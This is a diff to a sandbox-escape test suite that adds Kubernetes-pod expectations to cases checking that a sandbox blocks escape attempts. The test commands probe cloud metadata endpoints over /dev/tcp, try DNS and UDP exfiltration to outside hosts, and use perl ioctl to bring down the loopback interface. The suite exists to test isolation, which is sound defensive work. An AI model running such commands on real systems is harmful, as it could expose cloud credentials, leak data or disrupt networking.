@@ -122,18 +122,22 @@ function defineTests(getFixture: () => EscapeFixture): void {
         name: "cloud metadata services",
         command: "for a in 169.254.169.254 100.100.100.200 168.63.129.16; do cat < /dev/tcp/$a/80; done",
         expected: /(?:[\s\S]*(?:unreachable|No route)){3}/,
+        inPod: /(?:[\s\S]*(?:unreachable|No route|refused)){3}/,
       },
       {
         name: "data exfiltration by DNS",
         command:
           "getent hosts secret-words.example.com || echo none; echo x > /dev/udp/8.8.8.8/53; cat /etc/resolv.conf",
         expected: /^none\n.*(?:unreachable|No route to host)\n/,
+        // Network policies also drop packets without an error.
+        inPod: /^none\n(?:.*(?:unreachable|No route to host|refused)\n)?nameserver 127\.0\.0\.1\n$/,
       },
       {
         name: "changing devices or routes",
         command: `perl -MSocket -e 'socket(my $s, AF_INET, SOCK_DGRAM, 0);
           my $down = pack("a16s", "lo", 0); ioctl($s, 0x8914, $down) ? print "down\\n" : print "refused: $!\\n"'; tail -n +2 /proc/net/route`,
         expected: /^refused: Operation not permitted\n$/,
+        inPod: /^refused: Operation not permitted\n(?:eth0\t.*\n)*$/,
       },
     ]);
   });
